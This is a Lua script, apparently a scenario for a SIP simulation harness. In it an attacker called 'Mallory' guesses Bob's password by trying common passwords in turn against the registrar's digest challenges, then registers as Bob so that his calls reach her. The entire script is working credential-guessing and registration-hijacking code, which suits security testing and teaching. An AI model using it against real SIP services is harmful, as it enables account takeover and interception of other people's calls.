-- Mallory tries the passwords that people like, one after the other, until the
-- registrar takes one.  Then Bob's calls come to her.
local words = { "123456", "password", "qwerty", "letmein", "summer", "dragon",
	"monkey", "football" }
local bob, next_word, cseq = "sip:bob@example.com", 1, 0

local function register(credentials)
	cseq = cseq + 1
	send {
		method = "REGISTER", uri = "sip:example.com", from = bob, to = bob,
		call_id = "guess@" .. self.addr, cseq = cseq,
		headers = { Authorization = credentials },
	}
end

-- What answers a challenge, if the password is that word.
local function credentials(challenge, word)
	local text = 'Digest username="bob", realm="' .. challenge:match 'realm="([^"]+)"'
		.. '", nonce="' .. challenge:match 'nonce="([^"]+)"'
		.. '", uri="sip:example.com", algorithm=' .. challenge:match "algorithm=([%w-]+)"
		.. ', qop=auth, nc=00000001, cnonce="m1", response="'
	return text .. digest.response(text .. '"', "REGISTER", word) .. '"'
end

function on_start()
	after("10s", function() register() end)
end

function on_reply(m, answer)
	if answer.status == 200 then
		return print("The password is " .. words[next_word - 1] .. ".")
	end
	local challenge = answer:get "WWW-Authenticate"
	if not challenge or not words[next_word] then
		return print("Mallory gives up: " .. answer.status)
	end
	after(settings.every .. "s", function()
		next_word = next_word + 1
		register(credentials(challenge, words[next_word - 1]))
	end)
end
